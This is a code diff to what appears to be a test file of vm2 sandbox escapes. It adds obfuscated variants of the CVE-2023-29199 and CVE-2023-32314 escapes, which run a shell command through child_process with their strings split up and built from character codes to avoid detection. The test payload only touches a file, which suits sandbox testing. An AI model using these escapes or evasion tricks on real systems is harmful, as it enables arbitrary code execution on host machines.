@@ -42,7 +42,26 @@ const sandbox = ({ package: name, route = name, id, title, escape }: Sandbox): K
 
 const touch = (file: string): string => `mainModule.require('child_process').execSync('touch ${file}')`;
 
+// The same ways out, spelled so that neither text says what it is after.
+const hidden = (file: string): string =>
+  `const path = (from) => from['constr' + 'uctor']; const host = ['ret' + 'urn pro', 'cess'].join(''); ` +
+  `const touch = (own) => own[['main', 'Module'].join('')].require(['child', 'process'].join('_'))['exec' + 'Sync'](String.fromCharCode(${[...`touch ${file}`].map((one) => one.charCodeAt(0)).join()})); `;
+
 export default [
+  sandbox({
+    package: 'vm2',
+    id: 'CVE-2023-29199',
+    title: 'as below, the words of the way out put together from pieces',
+    escape: (file) =>
+      `${hidden(file)} aVM2_INTERNAL_TMPNAME = {}; function stack() { new Error().stack; stack(); } try { stack(); } catch (a$tmpname) { touch(path(path(a$tmpname))(host)()); }`,
+  }),
+  sandbox({
+    package: 'vm2-3.9.17',
+    id: 'CVE-2023-32314',
+    title: 'as below, the words of the way out put together from pieces',
+    escape: (file) =>
+      `${hidden(file)} const error = new Error(); error.name = { toString: new Proxy(() => "", { apply(target, self, list) { throw touch(path(path(list))(host)()).toString(); } }) }; try { error.stack; } catch (out) { out; }`,
+  }),
   sandbox({
     package: 'vm2',
     id: 'CVE-2023-29199',
